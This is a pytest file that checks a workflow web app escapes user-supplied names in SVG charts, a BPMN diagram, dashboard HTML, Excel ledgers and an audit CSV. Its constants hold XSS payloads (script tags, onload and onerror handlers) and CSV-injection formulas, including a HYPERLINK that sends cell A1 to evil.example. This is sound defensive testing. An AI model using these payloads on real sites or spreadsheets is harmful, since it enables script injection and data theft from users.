"""Names typed by users (projects, investors, units, users, industries) and names in a deployed model
can never become markup or spreadsheet formulas: the server-side charts and the BPMN diagram escape
them with markupsafe (quotes included), the .xlsx ledgers store them as text, the audit CSV prefixes
formula-looking cells with an apostrophe (OWASP "CSV Injection")."""
from __future__ import annotations

import csv
import io
from datetime import date, timedelta

import pytest
from flow_support import login, register_lead
from lxml import etree
from markupsafe import Markup
from sqlalchemy import select, update

from workflows.db import transaction
from workflows.engine.model_store import read_model_files
from workflows.models import ProcessInstance, User
from workflows.rendering import charts
from workflows.rendering.diagram import NS, bpmn_file_for, render_svg

PAYLOADS = ['"><script>alert(1)</script>', '" onload="alert(2)', "'><svg onload=alert(3)>",
            '<img src=x onerror=alert(4)>', '"/><g onload="alert(5)"><title>x']
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点此")', "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]
SVG = "{http://www.w3.org/2000/svg}"


def _no_active_content(svg: str) -> etree._Element:
    """The SVG parses as XML, has no script element and no event-handler attribute."""
    root = etree.fromstring(svg.encode("utf-8"))
    for node in root.iter():
        assert etree.QName(node).localname not in ("script", "foreignObject", "img", "svg") or node is root
        assert not [name for name in node.attrib if name.lower().startswith("on")], etree.tostring(node)
    return root


@pytest.mark.parametrize("builder", [charts.bar_chart, charts.column_chart, charts.funnel_chart])
def test_chart_labels_titles_and_units_stay_text(builder):
    rows = [(p, i + 1) for i, p in enumerate(PAYLOADS)]
    kwargs = {} if builder is charts.funnel_chart else {"unit": PAYLOADS[1]}
    svg = builder(rows, PAYLOADS[0], **kwargs)
    assert isinstance(svg, Markup)
    root = _no_active_content(svg)
    assert root.find(f"{SVG}title").text == PAYLOADS[0]
    labels = [g.get("data-label") for g in root.iter(f"{SVG}g")]
    assert labels == PAYLOADS  # the attribute carries the name exactly, quotes and all
    if builder is charts.bar_chart:
        assert PAYLOADS[2] in [t.text for t in root.iter(f"{SVG}text")]


def test_model_element_names_in_the_diagram_stay_text():
    model = etree.fromstring(bpmn_file_for(read_model_files(), "investment_project").encode("utf-8"))
    kinds = ("lane", "userTask", "exclusiveGateway", "sequenceFlow", "endEvent")
    named = []
    for kind, payload in zip(kinds, PAYLOADS, strict=True):
        node = next(n for n in model.iterfind(f".//bpmn:{kind}", NS) if kind != "sequenceFlow" or n.get("name"))
        node.set("name", payload)
        named.append(node)
    text = etree.tostring(model, encoding="unicode")
    task = named[1].get("id")
    svg = render_svg(text, "investment_project", active={task}, heat={task: ("#fff", PAYLOADS[3])})
    assert isinstance(svg, Markup)
    root = _no_active_content(svg)
    titles = {t.text for t in root.iter(f"{SVG}title")}
    assert set(PAYLOADS[1:]) <= titles  # tasks, gateways, flows, events carry their name as a title
    texts = "".join(t.text or "" for t in root.iter(f"{SVG}text"))
    assert PAYLOADS[0][:4] in texts and PAYLOADS[3] in texts


def test_the_dashboard_renders_the_charts_as_markup_and_names_as_text(app, client):
    from workflows.demo import seed_projects

    seed_projects()
    with transaction() as s:
        s.execute(update(ProcessInstance).values(project_name=PAYLOADS[2], investor=PAYLOADS[0]))
    login(client, "zhuren")
    for url in ("/dashboard/", "/ledgers/projects", "/ledgers/signed", "/projects/"):
        html = client.get(url).data.decode()
        for payload in PAYLOADS[:3]:
            assert payload not in html, url
    assert "<svg" in client.get("/dashboard/").data.decode()  # the charts themselves are still markup


def test_a_formula_in_a_project_name_is_text_in_the_excel_ledger(app, client):
    from openpyxl import load_workbook

    from workflows.demo import seed_projects

    seed_projects()
    login(client, "zhuren")
    with transaction() as s:
        county = s.scalar(select(User).where(User.username == "zhuren")).unit.organisation_id
        pid = s.scalar(select(ProcessInstance.id).where(ProcessInstance.county_id == county,
                                                        ProcessInstance.process_id == "investment_project"))
    for formula in FORMULAS:
        with transaction() as s:
            s.execute(update(ProcessInstance).where(ProcessInstance.id == pid).values(project_name=formula))
        response = client.get("/ledgers/projects.xlsx")
        assert response.status_code == 200
        sheet = load_workbook(io.BytesIO(response.data)).active
        cells = [c for row in sheet.iter_rows(min_row=3, min_col=2, max_col=2) for c in row]
        mine = [c for c in cells if c.value == formula]
        assert mine and all(c.data_type == "s" for c in mine), (formula, [c.value for c in cells])


def test_a_formula_in_a_project_name_is_text_in_the_audit_csv(app, client):
    pid = register_lead(client)
    login(client, "shenji")
    today = date.today()
    url = f"/audit/events.csv?from={today - timedelta(days=1)}&to={today + timedelta(days=1)}"
    for formula in FORMULAS:
        with transaction() as s:
            s.execute(update(ProcessInstance).where(ProcessInstance.id == pid).values(project_name=formula))
        rows = list(csv.reader(io.StringIO(client.get(url).data.decode("utf-8-sig"))))
        names = {r[3] for r in rows[1:]}
        assert names == {"'" + formula}, (formula, names)
    # Ordinary names are untouched.
    with transaction() as s:
        s.execute(update(ProcessInstance).where(ProcessInstance.id == pid).values(project_name="年产10万吨项目"))
    rows = list(csv.reader(io.StringIO(client.get(url).data.decode("utf-8-sig"))))
    assert {r[3] for r in rows[1:]} == {"年产10万吨项目"}
